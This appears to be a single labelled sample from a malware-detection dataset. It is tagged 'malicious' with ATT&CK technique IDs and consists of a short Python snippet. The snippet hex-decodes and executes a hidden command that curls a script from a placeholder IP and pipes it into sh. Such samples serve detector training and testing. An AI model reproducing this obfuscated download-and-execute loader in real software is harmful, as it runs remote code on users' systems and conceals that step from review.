# label: malicious family=encoded techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=3-5
import base64, types
src = base64.b16decode("696D706F7274206F733B6F732E73797374656D28226375726C202D7320687474703A2F2F3139382E35312E3130302E36312F782E7368207C2073682229")
co = compile(src, "<m>", "exec")
types.FunctionType(co, globals())()
